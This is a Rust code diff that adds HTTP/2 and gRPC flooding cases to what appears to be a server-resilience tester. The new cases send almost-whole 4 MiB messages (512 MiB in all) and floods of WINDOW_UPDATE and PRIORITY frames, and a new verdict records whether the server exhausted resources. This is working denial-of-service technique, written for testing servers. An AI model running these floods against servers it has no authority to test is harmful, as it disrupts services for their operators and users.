@@ -9,6 +9,7 @@
 //! # Ok(()) }
 //! ```
 
+mod almost_whole;
 mod wire;
 
 use std::{io, net::SocketAddr, time::Duration};
@@ -16,9 +17,11 @@ use std::{io, net::SocketAddr, time::Duration};
 use anyhow::{Context as _, Result};
 use tokio::{io::AsyncWriteExt as _, net::tcp::OwnedWriteHalf, select, time::timeout};
 
+pub use almost_whole::AlmostWhole;
 use wire::{
     ACK, CONTINUATION, DATA, END_HEADERS, GOAWAY, HEADERS, Hearing, LONGEST, PING, PREFACE,
-    RST_STREAM, SETTINGS, WINDOW_UPDATE, begin, call, connect, frame, literal, remembered,
+    PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, begin, call, connect, frame, literal,
+    remembered,
 };
 
 /// More than any server needs to make up its mind.
@@ -60,12 +63,18 @@ pub enum Attack {
     EmptyData,
     /// Promises messages of 4 MiB on a hundred calls, and sends as much of them as is taken.
     UnfinishedMessages,
+    /// Sends messages of 4 MiB but for their last byte, 512 MiB in all, on four connections ([`AlmostWhole`]).
+    AlmostWholeMessages,
     /// Asks whether the server is there, tens of thousands of times.
     Pings,
     /// Answers as often what nobody has asked.
     PingAnswers,
     /// Sends as many SETTINGS, each of which is to be acknowledged.
     Settings,
+    /// Makes the connection's window larger by a byte as often.
+    WindowUpdates,
+    /// Gives a stream that there is not as many priorities.
+    Priorities,
 }
 
 /// What the server made of it.
@@ -80,6 +89,11 @@ pub enum Verdict {
     Refused {
         /// An error code of HTTP/2.
         code: u32,
+    },
+    /// It ended so many calls with `RESOURCE_EXHAUSTED`, gRPC's word for it, and went on with the others.
+    Exhausted {
+        /// How many it ended.
+        calls: usize,
     },
     /// It went on, and answered the last word.
     Endured,
@@ -107,9 +121,12 @@ impl Attack {
             Self::Continuations => "CONTINUATION without an end",
             Self::EmptyData => "empty DATA",
             Self::UnfinishedMessages => "unfinished messages",
+            Self::AlmostWholeMessages => "messages but for a byte",
             Self::Pings => "PING",
             Self::PingAnswers => "answers to no PING",
             Self::Settings => "SETTINGS",
+            Self::WindowUpdates => "WINDOW_UPDATE",
+            Self::Priorities => "PRIORITY",
         }
     }
 
@@ -132,6 +149,14 @@ impl Attack {
                 Ok(verdict(hearing, false).await)
             }
             Self::Connections => connections(server).await,
+            Self::AlmostWholeMessages => {
+                let calls = AlmostWhole::send(server).await?.exhausted();
+                Ok(if calls > 0 {
+                    Verdict::Exhausted { calls }
+                } else {
+                    Verdict::Endured
+                })
+            }
             Self::Silence => {
                 let (_write, hearing) = begin(server).await?;
                 Ok(verdict(hearing, false).await)
@@ -186,7 +211,11 @@ impl Attack {
             Self::Pings => flood(write, &frame(PING, 0, 0, &[1; 8])).await,
             Self::PingAnswers => flood(write, &frame(PING, ACK, 0, &[1; 8])).await,
             Self::Settings => flood(write, &frame(SETTINGS, 0, 0, &[])).await,
-            Self::SlowHandshake | Self::Connections | Self::Silence => Ok(()),
+            Self::WindowUpdates => flood(write, &frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])).await,
+            Self::Priorities => flood(write, &frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])).await,
+            Self::SlowHandshake | Self::Connections | Self::Silence | Self::AlmostWholeMessages => {
+                Ok(())
+            }
         }
     }
 }
